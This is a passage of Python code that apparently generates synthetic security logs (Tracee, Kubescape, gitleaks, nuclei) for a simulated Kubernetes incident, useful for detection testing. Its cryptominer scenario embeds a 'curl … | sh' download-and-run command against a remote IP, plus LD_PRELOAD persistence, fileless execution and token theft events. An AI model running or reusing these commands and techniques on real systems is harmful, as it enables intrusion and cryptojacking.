        sid, sname, desc, cat, tech, sev, ext, apid, evid, (trig, trig_id) = TR_SIGS[sig]
        pod, ns, cname, image, wcomm, _path, uid = wl
        if pod not in cids:
            cids[pod] = hexid(r, 64)
            cgroups[pod] = r.randint(10**4, 10**5)
            podids[pod] = uuid4(r)
            digests[image] = "sha256:" + hexid(r, 64)
        hpid = r.randint(4000, 4_190_000)
        pid = r.randint(1, 400)
        ts_ns = int(epoch(t) * 1e9) - r.randint(200_000, 40_000_000)
        start_ns = ts_ns - r.randint(10**6, 9 * 10**11)
        d = {
            "timestamp": ts_ns,
            "threadStartTime": start_ns,
            "processorId": r.randint(0, 7),
            "processId": pid,
            "cgroupId": cgroups[pod],
            "threadId": pid,
            "parentProcessId": r.randint(1, pid) if pid > 1 else 0,
            "hostProcessId": hpid,
            "hostThreadId": hpid,
            "hostParentProcessId": hpid - r.randint(1, 300),
            "userId": uid,
            "mountNamespace": 4026530000 + cgroups[pod] % 9000,
            "pidNamespace": 4026530003 + cgroups[pod] % 9000,
            "processName": comm or wcomm,
            "executable": {"path": ""},
            "hostName": pod,
            "containerId": cids[pod],
            "container": {
                "id": cids[pod],
                "name": cname,
                "image": image,
                "imageDigest": digests[image],
            },
            "kubernetes": {"podName": pod, "podNamespace": ns, "podUID": podids[pod]},
            "eventId": evid,
            "eventName": sig,
            "matchedPolicies": ["default-policy"],
            "argsNum": 1,
            "returnValue": 0,
            "syscall": "",
            "stackAddresses": None,
            "contextFlags": {"containerStarted": True, "isCompat": False},
            "threadEntityId": r.randint(10**8, 4 * 10**9),
            "processEntityId": r.randint(10**8, 4 * 10**9),
            "parentEntityId": r.randint(10**8, 4 * 10**9),
            "args": [
                {
                    "name": "triggeredBy",
                    "type": "unknown",
                    "value": {"args": args, "id": trig_id, "name": trig, "returnValue": 0},
                }
            ],
            "metadata": {
                "Version": "1",
                "Description": desc,
                "Tags": None,
                "Properties": {
                    "Category": cat,
                    "Kubernetes_Technique": "",
                    "Severity": sev,
                    "Technique": tech,
                    "external_id": ext,
                    "id": apid,
                    "signatureID": sid,
                    "signatureName": sname,
                },
            },
        }
        if path:
            d["executable"] = {"path": path}
        emit(node, t, sig, jd(d))

    def arg(name: str, typ: str, value: object) -> dict:
        return {"name": name, "type": typ, "value": value}

    def sa_token(node: str, t: datetime, wl: tuple) -> None:
        ns = wl[1]
        event(
            node,
            t,
            "k8s_service_account_token",
            wl,
            [
                arg(
                    "pathname",
                    "const char*",
                    f"/var/lib/kubelet/pods/{uuid4(r)}/volumes/kubernetes.io~projected/kube-api-access-{hexid(r, 5)}/..2024_06_07_0{r.randint(0, 5)}_{r.randint(10, 59)}_{r.randint(10, 59)}.{r.randint(100000000, 999999999)}/token",
                ),
                arg("flags", "string", "O_RDONLY|O_LARGEFILE"),
                arg("dev", "dev_t", 264241153),
                arg("inode", "unsigned long", r.randint(10**6, 10**8)),
                arg("ctime", "unsigned long", int(epoch(t) * 1e9) - r.randint(10**9, 10**12)),
                arg(
                    "syscall_pathname",
                    "const char*",
                    "/var/run/secrets/kubernetes.io/serviceaccount/token",
                ),
            ]
            if ns
            else [],
        )

    def jit(node: str, t: datetime, wl: tuple) -> None:
        event(
            node,
            t,
            "dynamic_code_loading",
            wl,
            [arg("alert", "alert_t", "Protection changed from W to E!")],
        )

    def dropped(node: str, t: datetime, wl: tuple, hidden: bool = False) -> None:
        if wl[4] == "go":
            p = r.choice(
                [
                    "/builds/platform/deployer/bin/deployer",
                    "/root/.cache/go-build/" + hexid(r, 2) + "/" + hexid(r, 64) + "-d",
                    "/tmp/go-build" + str(r.randint(10**8, 10**9)) + "/b001/exe/main",
                ]
            )
            comm = r.choice(["compile", "link", "go"])
        else:
            p = r.choice(
                [
                    "/builds/web/storefront/node_modules/.bin/esbuild",
                    "/builds/web/storefront/node_modules/@esbuild/linux-x64/bin/esbuild",
                    "/root/.cache/node/corepack/pnpm/9.1.4/dist/pnpm",
                    "/builds/web/storefront/node_modules/.pnpm/sharp@0.33.4/node_modules/sharp/build/Release/sharp.node",
                ]
            )
            comm = r.choice(["node", "npm install", "pnpm"])
        if hidden:
            p = r.choice(
                [
                    "/root/.cache/.bun/bin/bun",
                    "/builds/web/storefront/.turbo/bin/turbo",
                    "/tmp/.esbuild-" + hexid(r, 8),
                ]
            )
        event(
            node,
            t,
            "hidden_file_created" if hidden else "dropped_executable",
            wl,
            [
                arg("pathname", "const char*", p),
                arg("bytes", "bytes", None),
                arg("dev", "dev_t", 264241153),
                arg("inode", "unsigned long", r.randint(10**6, 10**8)),
            ],
            comm=comm[:15],
        )

    # steady detections
    for node, wls in TR_PODS.items():
        for wl in wls:
            if wl[1] in ("argocd", "cert-manager", "monitoring") or wl[0].startswith("orders"):
                mean = {"argocd": 120, "cert-manager": 190, "monitoring": 700}.get(wl[1], 300)
                for t in poisson(r, T0, T_END, mean):
                    sa_token(node, t, wl)
            if wl[4] in ("java", "node") and wl[1] in ("shop", "payments"):
                for t in poisson(r, T0, T_END, 210 if wl[4] == "java" else 330):
                    jit(node, t, wl)
            if wl[1] == "monitoring":
                for t in poisson(r, T0, T_END, 900):
                    event(
                        node,
                        t,
                        "sched_debug_recon",
                        wl,
                        [
                            arg("pathname", "const char*", "/proc/sched_debug"),
                            arg("flags", "string", "O_RDONLY"),
                            arg("dev", "dev_t", 22),
                            arg("inode", "unsigned long", 4026532030),
                        ],
                    )
                for t in poisson(r, T0, T_END, 1500):
                    event(
                        node,
                        t,
                        "proc_mem_access",
                        wl,
                        [
                            arg("pathname", "const char*", f"/proc/{r.randint(100, 40000)}/mem"),
                            arg("flags", "string", "O_RDONLY"),
                            arg("dev", "dev_t", 22),
                            arg("inode", "unsigned long", r.randint(10**5, 10**7)),
                        ],
                    )
    # CI builds on node-03: dropped executables, hidden files, lost events
    n3 = "k8s-node-03"
    for b0, b1 in builds:
        wl = r.choice(TR_PODS[n3][:2])
        for t in poisson(r, b0, b1, r.uniform(8, 16)):
            dropped(n3, t, wl)
        for t in poisson(r, b0, b1, 75):
            dropped(n3, t, wl, hidden=True)
        for t in poisson(r, b0 + sec(20), b1, r.uniform(14, 24)):
            zlog(
                n3,
                t,
                "warn",
                f"Lost {r.choice([r.randint(1, 90), r.randint(100, 4000), r.randint(100, 1500)])} events",
                label="Lost %d events",
            )
        for t in poisson(r, b0 + sec(30), b1, 40):
            zlog(
                n3,
                t,
                "warn",
                "Failed to add or update a map element",
                [
                    ("id", 3),
                    ("type", "BPF_LOG_ID_MAP_UPDATE_ELEM"),
                    ("ret", -7),
                    ("cpu", r.randint(0, 7)),
                    ("file", r.choice(["tracee.bpf.c", "common/buffer.h"])),
                    ("line", r.choice([1291, 317, 5620])),
                    ("count", r.randint(1, 300)),
                ],
            )
        for t in poisson(r, b0 + sec(30), b1, 90):
            zlog(
                n3,
                t,
                "warn",
                "Failed to tail call",
                [
                    ("id", 6),
                    ("type", "BPF_LOG_ID_TAIL_CALL"),
                    ("ret", -2),
                    ("cpu", r.randint(0, 7)),
                    ("file", "tracee.bpf.c"),
                    ("line", r.choice([176, 4310])),
                    ("count", r.randint(1, 40)),
                ],
            )
        if r.random() < 0.35:
            zlog(
                n3,
                b0 + sec(r.uniform(60, 200)),
                "warn",
                f"Lost {r.randint(1, 12)} control plane signals",
                label="Lost %d control plane signals",
            )
    # short-lived containers the enricher cannot inspect
    for t in poisson(r, T0, T_END, 900):
        node = r.choice(list(pods))
        cid = hexid(r, 64)
        zlog(
            node,
            t,
            "error",
            "Error processing event",
            [
                ("event", r.choice(["cgroup_mkdir", "sched_process_exec", "container_create"])),
                (
                    "error",
                    f'failed to enrich container {cid}: runtime containerd: failed to get container: container "{cid}" in namespace "k8s.io": not found',
                ),
            ],
        )
    # the cryptominer in dev-sandbox on node-02
    n2 = "k8s-node-02"
    cms = TR_PODS[n2][3]
    t = incident
    for cmd in ["sh", "sh", "sh"]:
        event(
            n2,
            t,
            "illegitimate_shell",
            cms,
            [
                arg("pathname", "const char*", "/bin/dash"),
                arg("dev", "dev_t", 2080),
                arg("inode", "unsigned long", 1310786),
                arg(
                    "argv",
                    "const char*const*",
                    [cmd, "-c", "cd /tmp; curl -fsSL http://45.147.230.17/x.sh | sh"],
                ),
            ],
            comm="apache2",
        )
        t += sec(r.uniform(0.5, 40))
    event(
        n2,
        t + sec(3),
        "dropped_executable",
        cms,
        [
            arg("pathname", "const char*", "/tmp/.x/kswapd0"),
            arg("bytes", "bytes", None),
            arg("dev", "dev_t", 2080),
            arg("inode", "unsigned long", 1311004),
        ],
        comm="curl",
    )
    event(
        n2,
        t + sec(3.1),
        "hidden_file_created",
        cms,
        [
            arg("pathname", "const char*", "/tmp/.x/kswapd0"),
            arg("bytes", "bytes", None),
            arg("dev", "dev_t", 2080),
            arg("inode", "unsigned long", 1311004),
        ],
        comm="curl",
    )
    event(
        n2,
        t + sec(4),
        "ld_preload",
        cms,
        [
            arg("pathname", "const char*", "/etc/ld.so.preload"),
            arg("flags", "string", "O_WRONLY|O_CREAT|O_TRUNC"),
        ],
        comm="sh",
    )
    for k in range(6):
        tt = t + sec(5 + k * r.uniform(20, 200))
        event(
            n2,
            tt,
            "fileless_execution",
            cms,
            [
                arg("pathname", "const char*", "memfd:kswapd0 (deleted)"),
                arg("dev", "dev_t", 1),
                arg("inode", "unsigned long", r.randint(10**4, 10**5)),
            ],
            comm="kswapd0",
            path="memfd:kswapd0 (deleted)",
        )
        event(
            n2,
            tt + sec(0.4),
            "anti_debugging",
            cms,
            [
                arg("request", "long", "PTRACE_TRACEME"),
                arg("pid", "pid_t", 0),
                arg("addr", "void*", "0x0"),
                arg("data", "void*", "0x0"),
            ],
            comm="kswapd0",
        )
        for _ in range(r.randint(1, 3)):
            event(
                n2,
                tt + sec(r.uniform(1, 15)),
                "k8s_api_connection",
                cms,
                [
                    arg(
                        "remote_addr",
                        "struct sockaddr*",
                        {"sa_family": "AF_INET", "sin_addr": "10.96.0.1", "sin_port": "443"},
                    )
                ],
                comm="kswapd0",
            )
        event(
            n2,
            tt + sec(2),
            "k8s_service_account_token",
            cms,
            [
                arg(
                    "pathname", "const char*", "/var/run/secrets/kubernetes.io/serviceaccount/token"
                ),
                arg("flags", "string", "O_RDONLY"),
            ],
            comm="kswapd0",
        )
    # legitimate API clients: argocd and cert-manager connect to the API server on restarts
    for t in poisson(r, T0, T_END, 2400):
        node = r.choice(["k8s-node-01", "k8s-node-02"])
        wl = TR_PODS[node][2]
        event(
            node,
            t,
            "k8s_api_connection",
            wl,
            [
                arg(
                    "remote_addr",
                    "struct sockaddr*",
                    {"sa_family": "AF_INET", "sin_addr": "10.96.0.1", "sin_port": "443"},
                )
            ],
        )
    # node-03's pod restarted after the OOM kill
    zlog(
        n3,
        restart + sec(0.8),
        "warn",
        "KConfig: could not check enabled kconfig features",
        [
            (
                "error",
                "could not read /boot/config-6.1.0-21-cloud-amd64: stat /boot/config-6.1.0-21-cloud-amd64: no such file or directory",
            )
        ],
    )
    zlog(
        n3,
        restart + sec(0.8001),
        "warn",
        "KConfig: assuming kconfig values, might have unexpected behavior",
    )
    return fs.logs(T0)


# -------------------------------------------------------------------------------- kubescape

KS_APPS = [
    ("shop", 9),
    ("payments", 5),
    ("search", 3),
    ("data", 3),
    ("web", 4),
    ("identity", 2),
    ("ml", 1),
]


def kubescape(r: random.Random) -> list[Log]:
    """The in-cluster Kubescape scanner (see the module docstring)."""
    fs = Files()
    pod = "kubescape-5d8f7b9c4-7xk2p"
    oom = at(10, 12, 40)
    back = at(10, 13, 31)
    proxy_down = (at(8, 20), at(8, 45))
    etcd_slow = (at(9, 48), at(9, 58))
    agent_down = (at(7, 50), at(8, 35))
    busy_until = [T0]
    failed: set[str] = set()
    cluster = "prod-eu-1"
    guid = "5d8e4c2a-7f1b-4b9e-9a3c-2e6f8d1b0c47"

    def K(
        t: datetime,
        level: str,
        msg: str,
        fields: list[tuple[str, object]] | None = None,
        label: str | None = None,
    ) -> datetime:
        if oom <= t < back:
            return t
        f = f"{pod}.previous.log" if t < oom else f"{pod}.log"

        def text(x: datetime) -> list[str]:
            d: dict = {"level": level, "ts": iso_s(x), "msg": msg}
            d.update(fields or [])
            return [jd(d)]

        return fs.add(f, t, label or msg, text, (pod, t < oom), SEC)

    def scan(t: datetime, full: bool, ns: str, sid: str) -> datetime:
        """One scan from the handler's queue; returns when it is done (or the process died)."""
        t = max(t, busy_until[0]) + sec(r.uniform(0.01, 0.3))
        t0 = t
        K(t, "info", "triggering scan", [("scanID", sid)])
        K(t + sec(0.001), "info", "scan triggered", [("ID", sid)])
        t += sec(0.01)
        K(t, "info", "Kubescape scanner initializing...")
        t = K(t + sec(r.uniform(0.4, 1.5)), "info", "Initialized scanner")
        K(t + sec(0.001), "info", "Loading policies...")
        t = K(t + sec(r.uniform(0.2, 1.2)), "info", "Loaded policies")
        K(t + sec(0.001), "info", "Loading exceptions...")
        t += sec(r.uniform(0.1, 0.8))
        if in_any(t, [proxy_down]):
            t = K(
                t + sec(30),
                "warning",
                "failed to load exceptions",
                [
                    (
                        "error",
                        f'Get "https://api.armosec.io/api/v1/armoPostureExceptions?customerGUID={guid}": dial tcp: lookup api.armosec.io on 10.96.0.10:53: server misbehaving',
                    )
                ],
            )
        t = K(t, "info", "Loaded exceptions")
        K(t + sec(0.001), "info", "Loading account configurations...")
        t += sec(r.uniform(0.1, 0.6))
        if in_any(t, [proxy_down]):
            t = K(
                t + sec(30),
                "warning",
                f'Get "https://api.armosec.io/api/v1/armoCustomerConfiguration?customerGUID={guid}&clusterName={cluster}": dial tcp: lookup api.armosec.io on 10.96.0.10:53: server misbehaving',
                label='Get "%s": dial tcp: lookup %s on %s: server misbehaving',
            )
        t = K(t, "info", "Loaded account configurations")
        K(t + sec(0.001), "info", "Accessing Kubernetes objects...")
        t += sec(r.uniform(2, 9) * (3 if full else 1))
        if in_any(t, [etcd_slow]):
            res = [
                ("rbac.authorization.k8s.io", "v1", "roles"),
                ("rbac.authorization.k8s.io", "v1", "rolebindings"),
                ("apps", "v1", "deployments"),
                ("", "v1", "pods"),
                ("networking.k8s.io", "v1", "networkpolicies"),
                ("", "v1", "serviceaccounts"),
            ]
            n_fail = len(res) if r.random() < 0.4 else r.randint(1, 3)
            fsel = f"metadata.namespace={ns}" if ns else ""
            err = ""
            for g, v, k in res[:n_fail]:
                err = f"failed to get resource: {g}/{v}, Resource={k}, labelSelector: , fieldSelector: {fsel}, reason: the server was unable to return a response in the time allotted, but may still be processing the request (get {k}{'.' + g if g else ''})"
                t = K(
                    t + sec(r.uniform(30, 60)),
                    "error",
                    "failed to pull resource",
                    [("resource", f"{g}/{v}/{k}"), ("error", err)],
                )
            if n_fail == len(res):
                t = K(t + sec(0.01), "error", "scanning failed", [("ID", sid), ("error", err)])
                busy_until[0] = t
                failed.add(sid)
                return t
        t = K(t, "info", "Accessed Kubernetes objects")
        if full:
            K(t + sec(0.001), "info", "Requesting Host scanner data")
            t += sec(r.uniform(3, 9))
            if in_any(t, [agent_down]):
                t = K(
                    t + sec(10),
                    "warning",
                    "failed to collect host scanner resources",
                    [
                        (
                            "error",
                            'failed to get host scanner data from node k8s-node-05: Get "http://10.0.5.15:7888/kubeletInfo": dial tcp 10.0.5.15:7888: connect: connection refused',
                        )
                    ],
                )
            t = K(t, "info", "Requested Host scanner data")
        t = K(t + sec(0.01), "info", "Scanning", [("Cluster", cluster)])
        t += sec(r.uniform(25, 80) * (5 if full else 1))
        if full and t0 < oom < t0 + sec(1200):
            # the 10:00 full scan: the cluster's new namespaces run the container out of memory
            t = oom + sec(1)
        if t0 < oom <= t:
            busy_until[0] = back
            return oom
        t = K(t, "info", "Done scanning", [("Cluster", cluster)])
        t = K(t + sec(r.uniform(0.5, 3)), "info", "done scanning", [("ID", sid)])
        busy_until[0] = t
        return t

    def ci(t: datetime) -> None:
        """Argo CD's PreSync hook: POST /v1/scan, then GET /v1/results?id= every 10 s."""
        ns = r.choices([a for a, _ in KS_APPS], [w for _, w in KS_APPS])[0]
        sid = uuid4(r)
        K(t, "info", "requesting scan", [("scanID", sid), ("api", "v1/scan")])
        done = scan(t, False, ns, sid)
        p = t + sec(r.uniform(2, 4))
        while p < done:
            K(
                p,
                "info",
                "requesting results",
                [("scanID", sid), ("api", "v1/results"), ("method", "GET")],
            )
            K(p + sec(0.001), "info", "scan in process", [("ID", sid)])
            p += sec(10 + r.uniform(0, 0.3))
        K(
            p,
            "info",
            "requesting results",
            [("scanID", sid), ("api", "v1/results"), ("method", "GET")],
        )
        K(p + sec(0.001), "info", "requesting results", [("ID", sid)])
        if sid in failed:
            # nothing was written: the hook gets 204 and fails the sync
            K(p + sec(0.002), "info", "scan result not found", [("ID", sid)])
            return
        K(p + sec(0.002), "info", "scan result found", [("ID", sid)])
        K(p + sec(0.003), "info", "deleting results", [("ID", sid)])

    def operator(t: datetime) -> None:
        """The operator's scheduled full scan (no polling: it reads the stored report)."""
        sid = uuid4(r)
        K(t, "info", "requesting scan", [("scanID", sid), ("api", "v1/scan")])
        scan(t, True, "", sid)

    events: list[tuple[datetime, bool]] = [
        (t, False) for t in poisson(r, T0 + sec(30), T_END - sec(300), 370)
    ]
    events += [(at(h, 0, r.uniform(5, 20)), True) for h in range(6, 12)]
    for t, full in sorted(events):
        if full:
            operator(t)
        elif not (oom - sec(600) <= t < back + sec(30)):
            ci(t)
    return fs.logs(T0)


# --------------------------------------------------------------------------------- gitleaks

GL_REPOS = [
    "shop/cart",
    "shop/checkout",
    "shop/storefront",
    "shop/search",
    "payments/ledger",
    "payments/gateway",
    "payments/fraud-rules",
    "data/etl-runner",
    "data/airflow-dags",
    "data/dbt-models",
    "platform/terraform-live",
    "platform/helm-charts",
    "platform/base-images",
    "platform/ci-templates",
    "web/admin-ui",
    "web/marketing-site",
    "identity/auth-service",
    "identity/keycloak-theme",
    "ml/feature-store",
    "ml/training-jobs",
    "mobile/ios-app",
    "mobile/android-app",
    "tools/release-bot",
    "tools/oncall-scripts",
]
GL_AUTHORS = [
    ("Priya Raman", "priya.raman@corp.example"),
    ("Tomás Ortega", "tomas.ortega@corp.example"),
    ("Jana Novak", "jana.novak@corp.example"),
    ("Mehmet Kaya", "mehmet.kaya@corp.example"),
    ("Lena Fischer", "lena.fischer@corp.example"),
    ("Chen Wei", "chen.wei@corp.example"),
    ("Sam Okafor", "sam.okafor@corp.example"),
    ("renovate[bot]", "bot@renovateapp.com"),
]
# rule, file, the redacted match
GL_RULES = [
    ("generic-api-key", "config/settings.py", 'API_KEY = "REDACTED"'),
    ("generic-api-key", "src/main/resources/application-dev.yml", "apiKey: REDACTED"),
    ("generic-api-key", "scripts/smoke_test.sh", 'TOKEN="REDACTED"'),
    ("aws-access-token", "deploy/.env.staging", "AWS_ACCESS_KEY_ID=REDACTED"),
    ("github-pat", ".github/workflows/release.yml", "GH_TOKEN: REDACTED"),
    ("slack-webhook-url", "alerts/notify.py", 'WEBHOOK = "REDACTED"'),
    ("private-key", "certs/dev-server.key", "-----BEGIN RSA PRIVATE KEY-----REDACTED"),
    ("gcp-api-key", "web/src/firebase.ts", 'apiKey: "REDACTED",'),
    ("stripe-access-token", "tests/fixtures/payments.json", '"secret_key": "REDACTED",'),
    ("jwt", "docs/api.md", "Authorization: Bearer REDACTED"),
    ("npm-access-token", ".npmrc", "//registry.npmjs.org/:_authToken=REDACTED"),
]


def gitleaks(r: random.Random) -> list[Log]:
    """Push scans on scan01 and the nightly audit on scan02 (see the module docstring)."""
    fs = Files()
    pids = {"scan01": 1184, "scan02": 30412}
    seq = [0]
    bad_cfg = (at(10, 20, 11), at(10, 34, 40))

    def kitchen(t: datetime) -> str:
        h = t.hour % 12 or 12
        return f"{h}:{t:%M}{'AM' if t.hour < 12 else 'PM'}"

    def J(host: str, proc: object, t: datetime, label: str | None, lines: list[str]) -> datetime:
        pid = pids[host]
        return fs.add(
            f"{host}-journal.log",
            t,
            label,
            lambda x: [f"{x:%Y-%m-%dT%H:%M:%S}+00:00 {host} gitleaks[{pid}]: {m}" for m in lines],
            proc,
            SEC,
        )

    def Z(
        host: str, proc: object, t: datetime, lvl: str, msg: str, label: str, field: str = ""
    ) -> datetime:
        pid = pids[host]

        def text(x: datetime) -> list[str]:
            body = f"{kitchen(x)} {lvl} {msg}" + (f" {field}" if field else "")
            return [f"{x:%Y-%m-%dT%H:%M:%S}+00:00 {host} gitleaks[{pid}]: {body}"]

        return fs.add(f"{host}-journal.log", t, label, text, proc, SEC)

    def dur(s: float) -> str:
        # FormatDuration: rounded to a hundredth of the duration's scale
        scale = 100.0
        while scale > s:
            scale /= 10
        q = scale / 100
        v = round(s / q) * q
        if v < 1e-3:
            return f"{v * 1e6:.6g}µs"
        if v < 1:
            return f"{v * 1e3:.6g}ms"
        if v < 60:
            return f"{v:.6g}s"
        m, rest = divmod(v, 60)
        return f"{int(m)}m{rest:.6g}s"

    def finding(host: str, proc: object, t: datetime, repo: str, when: datetime) -> datetime:
        rule, path, match = r.choice(GL_RULES)
        author, email = r.choice(GL_AUTHORS[:-1])
        commit = hexid(r, 40)
        line = r.randint(3, 240)
        ent = r.uniform(3.1, 5.6)
        lines = [
            f"Finding:     {match}",
            "Secret:      REDACTED",
            f"RuleID:      {rule}",
            f"Entropy:     {ent:f}",
            f"File:        {path}",
            f"Line:        {line}",
            f"Commit:      {commit}",
            f"Author:      {author}",
            f"Email:       {email}",
            f"Date:        {when:%Y-%m-%dT%H:%M:%S}Z",
            f"Fingerprint: {commit}:{path}:{rule}:{line}",
            "",
        ]
        return J(host, proc, t, "Finding:     %s", lines)

    def run(
        host: str,
        t: datetime,
        repo: str,
        commits: int,
        leaks: int,
        kind: str = "",
        banner: bool = False,
    ) -> datetime:
        seq[0] += 1
        proc = (host, seq[0])
        t0 = t
        if banner:
            t = J(
                host,
                proc,
                t,
                "\\n    ○\\n    │╲\\n    │ ○\\n    ○ ░\\n    ░    gitleaks\\n\\n",
                ["", "    ○", "    │╲", "    │ ○", "    ○ ░", "    ░    gitleaks", ""],
            )
        if host == "scan01" and in_any(t, [bad_cfg]):
            return Z(
                host,
                proc,
                t + sec(0.01),
                "FTL",
                "unable to load gitleaks config, err: While parsing config: toml: expected character =",
                "unable to load gitleaks config, err: %s",
            )
        if kind == "bad-object":
            old = hexid(r, 40)
            t = Z(
                host,
                proc,
                t + sec(0.06),
                "ERR",
                f"[git] fatal: bad object {old}",
                "[git] fatal: bad object %s",
            )
            t = Z(
                host,
                proc,
                t + sec(0.001),
                "ERR",
                "",
                "stderr is not empty",
                'error="stderr is not empty"',
            )
            t = Z(
                host,
                proc,
                t + sec(0.001),
                "WRN",
                f"partial scan completed in {dur((t - t0).total_seconds() + r.uniform(0.05, 0.09))}",
                "partial scan completed in %s",
            )
            return Z(
                host,
                proc,
                t + sec(0.001),
                "WRN",
                "no leaks found in partial scan",
                "no leaks found in partial scan",
            )
        if kind == "ambiguous":
            rng = f"origin/main..{hexid(r, 40)}"
            t = Z(
                host,
                proc,
                t + sec(0.06),
                "ERR",
                f"[git] fatal: ambiguous argument '{rng}': unknown revision or path not in the working tree.",
                "[git] fatal: ambiguous argument '%s': unknown revision or path not in the working tree.",
            )
            t = Z(
                host,
                proc,
                t + sec(0.001),
                "ERR",
                "[git] Use '--' to separate paths from revisions, like this:",
                "[git] Use '--' to separate paths from revisions, like this:",
            )
            t = Z(
                host,
                proc,
                t + sec(0.001),
                "ERR",
                "[git] 'git <command> [<revision>...] -- [<file>...]'",
                "[git] 'git <command> [<revision>...] -- [<file>...]'",
            )
            t = Z(
                host,
                proc,
                t + sec(0.001),
                "ERR",
                "",
                "stderr is not empty",
                'error="stderr is not empty"',
            )
            t = Z(
                host,
                proc,
                t + sec(0.001),
                "WRN",
                f"partial scan completed in {dur((t - t0).total_seconds() + r.uniform(0.05, 0.09))}",
                "partial scan completed in %s",
            )
            return Z(
                host,
                proc,
                t + sec(0.001),
                "WRN",
                "no leaks found in partial scan",
                "no leaks found in partial scan",
            )
        work = commits * r.uniform(0.004, 0.03) + r.uniform(0.05, 0.4)
        if kind == "renames":
            t = Z(
                host,
                proc,
                t + sec(work * 0.4),
                "WRN",
                "warning: exhaustive rename detection was skipped due to too many files.",
                "warning: exhaustive rename detection was skipped due to too many files.",
            )
            t = Z(
                host,
                proc,
                t + sec(0.001),
                "WRN",
                f"warning: you may want to set your diff.renameLimit variable to at least {r.randint(1200, 9000)} and retry the command.",
                "warning: you may want to set your diff.renameLimit variable to at least %d and retry the command.",
            )
        for _ in range(leaks):
            t = finding(
                host,
                proc,
                t + sec(work / (leaks + 1)),
                repo,
                t
                - timedelta(
                    minutes=r.randint(1, 60 * 24 * 400) if host == "scan02" else r.randint(1, 90)
                ),
            )
        t = Z(
            host,
            proc,
            t + sec(work / (leaks + 1)),
            "INF",
            f"{commits} commits scanned.",
            "%d commits scanned.",
        )
        t = Z(
            host,
            proc,
            t + sec(0.001),
            "INF",
            f"scan completed in {dur((t - t0).total_seconds() + r.uniform(0.001, 0.9))}",
            "scan completed in %s",
        )
        if leaks:
            return Z(host, proc, t + sec(0.001), "WRN", f"leaks found: {leaks}", "leaks found: %d")
        return Z(host, proc, t + sec(0.001), "INF", "no leaks found", "no leaks found")

    # the audit: every mirror's history, one after another
    t = at(6, 0, 3)
    for i in range(142):
        repo = GL_REPOS[i % len(GL_REPOS)] + ("" if i < len(GL_REPOS) else f"-{i // len(GL_REPOS)}")
        commits = int(r.lognormvariate(6.2, 1.1))
        leaks = 0 if r.random() < 0.8 else r.choice([1, 1, 1, 2, 2, 3, 5])
        kind = "renames" if r.random() < 0.05 else ""
        t = run("scan02", t, repo, commits, leaks, kind)
        t += sec(r.uniform(0.3, 1.5))
    # pushes: busier in the morning's second half
    pushes = poisson(r, T0, at(9, 0), 62) + poisson(r, at(9, 0), T_END, 38)
    for t in pushes:
        repo = r.choice(GL_REPOS)
        x = r.random()
        kind = ""
        if x < 0.018:
            kind = "bad-object"
        elif x < 0.024:
            kind = "ambiguous"
        elif x < 0.032:
            kind = "renames"
        commits = 1 if r.random() < 0.55 else r.randint(2, 14)
        leaks = 0 if r.random() < 0.94 else r.choice([1, 1, 2])
        run("scan01", t + sec(r.uniform(0.5, 3)), repo, commits, leaks, kind)
    # the admins' rescans of three repositories after the findings
    for t, repo in (
        (at(9, 5, 12), "payments/gateway"),
        (at(9, 48, 40), "platform/ci-templates"),
        (at(11, 2, 5), "data/airflow-dags"),
    ):
        run("scan01", t, repo, r.randint(300, 4000), r.choice([0, 1, 2]), banner=True)
    return fs.logs(T0)


# ----------------------------------------------------------------------------------- nuclei

NU_VERSION = "v3.2.8"
NU_TPL_VERSION = "v9.8.8"
NU_BANNER = [
    "",
    "                     __     _",
    "   ____  __  _______/ /__  (_)",
    "  / __ \\/ / / / ___/ / _ \\/ /",
    " / / / / /_/ / /__/ /  __/ /",
    f"/_/ /_/\\__,_/\\___/_/\\___/_/   {NU_VERSION}",
    "",
]
NU_BANNER_LABEL = "\\n".join(NU_BANNER).replace(NU_VERSION, "%s")
NU_EXTERNAL = [
    "https://www.example.com",
    "https://shop.example.com",
    "https://api.example.com",
    "https://checkout.example.com",
    "https://pay.example.com",
    "https://id.example.com",
    "https://status.example.com",
    "https://docs.example.com",
    "https://blog.example.com",
    "https://careers.example.com",
    "https://cdn.example.com",
    "https://legacy.example.com",
    "https://partners.example.com",
    "https://staging-shop.example.com",
    "https://mail.example.com",
    "https://vpn.example.com",
    "https://grafana.example.com",
    "https://sso.example.com",
]
NU_EXT_FINDINGS = [
    ("expired-ssl", "ssl", "low", "legacy.example.com:443", '["2024-05-31 23:59:59"]', None),
    (
        "weak-cipher-suites",
        "ssl",
        "low",
        "legacy.example.com:443",
        '["[tls10 TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA]"]',
        "tls-1.0",
    ),
    (
        "weak-cipher-suites",
        "ssl",
        "low",
        "mail.example.com:443",
        '["[tls11 TLS_RSA_WITH_AES_256_CBC_SHA]"]',
        "tls-1.1",
    ),
    (
        "mismatched-ssl-certificate",
        "ssl",
        "low",
        "partners.example.com:443",
        '["CN: *.partners-old.example.net"]',
        None,
    ),
    ("self-signed-ssl", "ssl", "low", "staging-shop.example.com:443", None, None),
    (
        "CVE-2023-48795",
        "javascript",
        "medium",
        "vpn.example.com:22",
        '["Vulnerable to Terrapin"]',
        None,
    ),
    ("git-config", "http", "medium", "https://docs.example.com/.git/config", None, None),
    (
        "phpinfo-files",
        "http",
        "low",
        "https://legacy.example.com/phpinfo.php",
        '["8.1.2-1ubuntu2.17"]',
        None,
    ),
    ("grafana-public-signup", "http", "medium", "https://grafana.example.com/signup", None, None),
    (
        "wordpress-user-enum",
        "http",
        "low",
        "https://blog.example.com/?author=1",
        '["mkhan","editor"]',
        None,
    ),
    ("http-trace", "http", "low", "https://legacy.example.com", None, "trace-request"),
]
NU_INT_FINDINGS = [
    ("prometheus-metrics", "http", "medium", "http://10.20.5.21:9100/metrics", None, None),
    ("prometheus-metrics", "http", "medium", "http://10.20.5.22:9100/metrics", None, None),
    ("springboot-env", "http", "low", "http://10.20.6.7:8081/actuator/env", None, None),
    (
        "springboot-heapdump",
        "http",
        "critical",
        "http://10.20.6.7:8081/actuator/heapdump",
        None,
        None,
    ),
    ("rabbitmq-default-login", "http", "high", "http://10.20.7.3:15672/api/whoami", None, None),
    ("minio-default-login", "http", "high", "http://10.20.7.9:9001/api/v1/login", None, None),
    ("CVE-2023-48795", "javascript", "medium", "10.20.1.5:22", '["Vulnerable to Terrapin"]', None),
    ("CVE-2023-48795", "javascript", "medium", "10.20.1.6:22", '["Vulnerable to Terrapin"]', None),
    ("elasticsearch-unauth", "http", "high", "http://10.20.4.11:9200", '["8.13.4"]', None),
